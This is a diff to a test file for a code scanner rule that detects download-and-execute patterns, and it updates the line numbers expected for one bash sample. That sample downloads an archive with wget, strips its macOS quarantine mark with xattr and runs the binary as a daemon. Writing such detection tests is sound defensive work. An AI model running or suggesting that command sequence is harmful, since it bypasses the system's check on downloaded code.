@@ -96,8 +96,8 @@ describe('threat/download-exec: code loaded into the running program from a serv
 });
 
 describe('threat/download-exec: an application downloaded and let past the system\'s check of downloads', () => {
-  it('reads the quarantine mark taken off an archive just downloaded before its program is run', () => {
-    expect(threats(fence('bash', 'wget -q https://dl.syncpanel.net/agent-mac.zip -O agent.zip\nunzip -o agent.zip -d "$HOME/.local/agent"\nxattr -cr "$HOME/.local/agent"\n"$HOME/.local/agent/agent" --daemon'))).toEqual(['threat/download-exec 11:1 error']);
+  it('reads the quarantine mark taken off an archive just downloaded, and its program then run', () => {
+    expect(threats(fence('bash', 'wget -q https://dl.syncpanel.net/agent-mac.zip -O agent.zip\nunzip -o agent.zip -d "$HOME/.local/agent"\nxattr -cr "$HOME/.local/agent"\n"$HOME/.local/agent/agent" --daemon'))).toEqual(['threat/download-exec 10:1 error', 'threat/download-exec 11:1 error']);
   });
   it('leaves the mark taken off an application built on the machine', () => {
     expect(threats(fence('bash', 'xcodebuild -scheme Viewer -configuration Release -derivedDataPath build\nxattr -r -d com.apple.quarantine build/Build/Products/Release/Viewer.app\nopen build/Build/Products/Release/Viewer.app'))).toEqual([]);
